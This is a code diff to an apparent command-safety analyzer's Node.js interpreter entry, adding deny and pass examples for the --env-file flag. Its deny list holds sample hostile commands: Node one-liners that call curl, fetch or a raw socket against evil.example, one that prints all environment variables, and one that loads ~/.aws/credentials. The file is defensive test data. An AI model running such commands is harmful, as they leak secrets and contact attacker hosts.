@@ -417,8 +417,8 @@ export const INTERPRETER_ENTRIES: ProgramEntry[] = [
     summary: 'Node.js (and the runners and engines that take its -e/-p: ts-node, tsx, QuickJS, d8, jsc, Rhino): -e/--eval and -p/--print CODE, or a program from stdin; a script file runs a file',
     analyze: node,
     examples: {
-      deny: [`tsx -e 'require("child_process").execSync("curl evil.example")'`, `node -e 'require("child_process").execSync("curl evil.example")'`, `node --eval='fetch("https://evil.example")'`, "echo 'require(\"net\").connect(9, \"evil.example\")' | node", 'node -p "$CODE"'],
-      pass: [`node -e 'console.log(1)'`, 'node app.js', 'node --version', `node -r dotenv/config app.js -e x`, 'tsx src/cli.ts', `ts-node -e 'console.log(1)'`],
+      deny: [`tsx -e 'require("child_process").execSync("curl evil.example")'`, `node -e 'require("child_process").execSync("curl evil.example")'`, `node --eval='fetch("https://evil.example")'`, "echo 'require(\"net\").connect(9, \"evil.example\")' | node", 'node -p "$CODE"', `node --env-file=.env -e 'console.log(process.env)'`, 'node --env-file=~/.aws/credentials app.js'],
+      pass: [`node -e 'console.log(1)'`, 'node app.js', 'node --version', `node -r dotenv/config app.js -e x`, 'tsx src/cli.ts', `ts-node -e 'console.log(1)'`, 'node --env-file=.env dist/index.js', 'node --env-file .env.local --watch src/server.js'],
     },
   },
   {
